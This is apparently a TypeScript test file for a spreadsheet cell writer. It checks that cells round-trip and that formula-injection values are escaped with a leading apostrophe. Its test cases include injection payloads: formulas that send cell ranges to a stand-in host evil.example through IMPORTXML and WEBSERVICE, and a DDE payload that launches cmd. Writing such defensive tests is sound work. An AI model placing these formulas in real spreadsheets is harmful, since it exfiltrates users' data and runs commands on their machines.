import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parseCells, writeCells } from './cells.ts';

test('cells that are written can be read again', () => {
  const cell = fc
    .oneof(
      fc.string(),
      fc.array(fc.constantFrom("'", '=', ' ', '+', '1', 'x')).map((s) => s.join('')),
    )
    .map((words) => words.replaceAll('\r', ''));
  const row = fc.array(cell, { minLength: 1, maxLength: 5 });
  fc.assert(
    fc.property(fc.array(row, { maxLength: 5 }), (rows) => {
      const isEmpty = (one: string[] | undefined) => one?.every((words) => words.trim() === '');
      while (rows.length > 0 && isEmpty(rows.at(-1))) rows.pop();
      expect(parseCells(writeCells(rows), '\t')).toEqual(rows);
    }),
  );
});

test.each([
  '=IMPORTXML(CONCAT("https://evil.example/?", A2:C20), "//a")',
  '@SUM(A1)',
  '+WEBSERVICE("https://evil.example/"&A1)',
  "-2+3*cmd|' /C calc'!A0",
  ' =A1',
])('no spreadsheet takes %s for a formula', (cell) => {
  expect(
    writeCells([['Emma', cell]])
      .split('\t')[1]
      ?.replaceAll('"', ''),
  ).toMatch(/^'/);
});

test.each(['-5', '+49 (30) 12-34', '- ', '40 %', "'tis", 'a = b'])('%s stays as it is', (cell) => {
  expect(writeCells([[cell]])).toBe(cell);
});
